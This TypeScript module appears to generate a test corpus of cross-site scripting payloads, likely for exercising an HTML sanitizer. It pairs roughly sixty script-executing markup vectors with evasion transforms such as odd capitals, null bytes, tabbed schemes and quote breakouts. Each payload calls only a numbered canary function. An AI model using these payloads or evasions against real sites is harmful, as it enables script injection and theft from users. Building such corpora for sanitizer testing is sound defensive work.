/** Markup that would run, load or send something, by what it is. `HIT` is called with the number of the seed. */
const HIT = 'hit(NUMBER)';

const ELEMENTS = [
  `<script>${HIT}</script>`,
  `<script src="data:text/javascript,${HIT}"></script>`,
  `<script xmlns="http://www.w3.org/1999/xhtml">${HIT}</script>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${HIT}</x:script>`,
  `<script type="module">${HIT}</script>`,
  `<svg onload="${HIT}"></svg>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin="${HIT}" attributeName="x" dur="1s"></animate></svg>`,
  `<svg><a xlink:href="javascript:${HIT}"><text y="20">x</text></a></svg>`,
  `<svg><foreignObject><img src="x" onerror="${HIT}"/></foreignObject></svg>`,
  `<math><mtext><img src="x" onerror="${HIT}"/></mtext></math>`,
  `<img src="x" onerror="${HIT}"/>`,
  `<img src="x" onerror="${HIT}" alt="a > b"/>`,
  `<image src="x" onerror="${HIT}"/>`,
  `<input autofocus="" onfocus="${HIT}"/>`,
  `<select autofocus="" onfocus="${HIT}"></select>`,
  `<textarea autofocus="" onfocus="${HIT}"></textarea>`,
  `<button onclick="${HIT}" autofocus="">x</button>`,
  `<body onload="${HIT}"></body>`,
  `<iframe src="javascript:parent.${HIT}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${HIT}&lt;/script&gt;"></iframe>`,
  `<frameset onload="${HIT}"></frameset>`,
  `<object data="javascript:${HIT}"></object>`,
  `<object data="data:text/html,&lt;script&gt;${HIT}&lt;/script&gt;"></object>`,
  `<embed src="javascript:${HIT}"/>`,
  `<video onerror="${HIT}"><source src="x"/></video>`,
  `<audio src="x" onerror="${HIT}"></audio>`,
  `<details open="" ontoggle="${HIT}">x</details>`,
  `<marquee onstart="${HIT}">x</marquee>`,
  `<form action="javascript:${HIT}"><input type="submit"/></form>`,
  `<form><button formaction="javascript:${HIT}">x</button></form>`,
  `<a href="javascript:${HIT}">x</a>`,
  `<a href="data:text/html,&lt;script&gt;opener.${HIT}&lt;/script&gt;" target="_blank">x</a>`,
  `<a href="vbscript:${HIT}">x</a>`,
  `<div onmouseover="${HIT}">x</div>`,
  `<p style="animation-name:x" onanimationstart="${HIT}">x</p>`,
  `<p style="width:expression(${HIT})">x</p>`,
  `<p style="background:url(javascript:${HIT})">x</p>`,
  `<style>@import 'javascript:${HIT}';</style>`,
  `<link rel="stylesheet" href="javascript:${HIT}"/>`,
  `<link rel="import" href="data:text/html,x"/>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${HIT}"/>`,
  `<base href="javascript:${HIT}//"/>`,
  `<table background="javascript:${HIT}"><tr><td>x</td></tr></table>`,
  `<isindex type="image" src="1" onerror="${HIT}"/>`,
  `<template><script>${HIT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></p></noscript>`,
  `<!--><img src="x" onerror="${HIT}"/>-->`,
  `<!-- --!><img src="x" onerror="${HIT}"/> -->`,
  `<![CDATA[<img src="x" onerror="${HIT}"/>]]>`,
  `<?xml-stylesheet href="javascript:${HIT}"?>`,
  `<p title="</p><img src=x onerror=${HIT}>">x</p>`,
  `<p/onmouseover=${HIT}/>x`,
  `<img src='x'onerror='${HIT}'/>`,
  `<img src=x onerror=${HIT} //`,
  `<img """><script>${HIT}</script>">`,
  `<xss style="behavior:url(x.htc)" onpointerover="${HIT}">x</xss>`,
  `<dialog open="" onclose="${HIT}">x</dialog>`,
  `<div><p></div><svg onload=${HIT}></p>`,
  `<a href="jav&#x09;ascript:${HIT}">x</a>`,
  `<a href="&#106;&#97;vascript&colon;${HIT}">x</a>`,
  `<img srcset="x 1x" onerror="${HIT}"/>`,
] as const;

/** Ways to write the same thing so that who looks for it does not find it. */
const DISGUISES: readonly (readonly [name: string, of: (markup: string) => string])[] = [
  ['as it is', (markup) => markup],
  [
    'in capitals',
    (markup) => markup.replace(/<(\/?)([a-z]+)/g, (_, slash: string, name: string) => `<${slash}${name.toUpperCase()}`),
  ],
  [
    'with odd capitals',
    (markup) => markup.replace(/\bon[a-z]+(?==)/g, (name) => `oN${name.slice(2, 4).toUpperCase()}${name.slice(4)}`),
  ],
  ['with line breaks', (markup) => markup.replace(/ (?=on|src|href)/g, '\n\t')],
  ['with a form feed', (markup) => markup.replace(/ (?=on|src|href)/g, '\f')],
  ['with a slash for a blank', (markup) => markup.replace(/ (?=on|src|href)/g, '/')],
  ['with a nul', (markup) => markup.replace(/javascript:/g, 'java\u0000script:').replace(/script>/g, 'script\u0000>')],
  ['with a tab in its scheme', (markup) => markup.replace(/javascript:/g, 'java\tscript:')],
  ['with blanks before its scheme', (markup) => markup.replace(/"javascript:/g, '" \u0001javascript:')],
  ['after an end of a quotation', (markup) => `"'>${markup}`],
  ['after an end of a script', (markup) => `</script></title></textarea>${markup}`],
  ['in a link', (markup) => `<a href="https://example.org/">${markup}</a>`],
];

export type Seed = { readonly number: number; readonly what: string; readonly markup: string };

/** Hundreds of seeds, each with a number of its own that it calls. */
export const SEEDS: readonly Seed[] = DISGUISES.flatMap(([what, of]) =>
  ELEMENTS.map((markup) => ({ what, markup: of(markup) })),
)
  .filter(({ markup }, index, all) => all.findIndex((one) => one.markup === markup) === index)
  .map(({ what, markup }, number) => ({ number, what, markup: markup.replaceAll('NUMBER', String(number)) }));
